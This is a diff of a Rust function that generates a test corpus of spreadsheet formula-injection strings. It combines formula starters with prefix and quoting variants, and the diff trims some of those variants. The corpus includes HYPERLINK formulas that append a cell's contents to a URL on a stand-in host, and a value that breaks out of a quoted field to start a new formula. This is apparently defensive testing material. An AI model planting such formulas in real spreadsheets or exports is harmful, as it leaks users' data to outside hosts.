@@ -78,10 +78,10 @@ impl Office {
 fn corpus() -> Vec<String> {
     const FORMULAS: [&str; 3] = ["1+1", "HYPERLINK(\"http://x/?\"&A1;\"y\")", "A1\";=1+1"];
     let mut corpus = vec!["late;=HYPERLINK(\"http://x/?\"&A1);z".to_owned()];
-    let starters = STARTERS.into_iter().chain(['\t', '\r', '\n', '−', '﹦', '%', '(', '{']);
+    let starters = STARTERS.into_iter().chain(['\t', '\r', '\n', '−', '﹦']);
     for starter in starters {
-        for before in ["", "a,", "a;", "a\t", "a\n", "a\r", "a\r\n", "\"", "\";", ",\"", ";;"] {
-            for between in ["", " ", "  ", "\"", " \"", "\"\"", "“", "\u{A0}", "'"] {
+        for before in ["", "a,", "a;", "a\t", "a\n", "a\r", "\"", "\";", ";;"] {
+            for between in ["", " ", "\"", " \"", "“", "\u{A0}", "'"] {
                 let formula = FORMULAS[corpus.len() % FORMULAS.len()];
                 corpus.push(format!("{before}{between}{starter}{formula}"));
             }
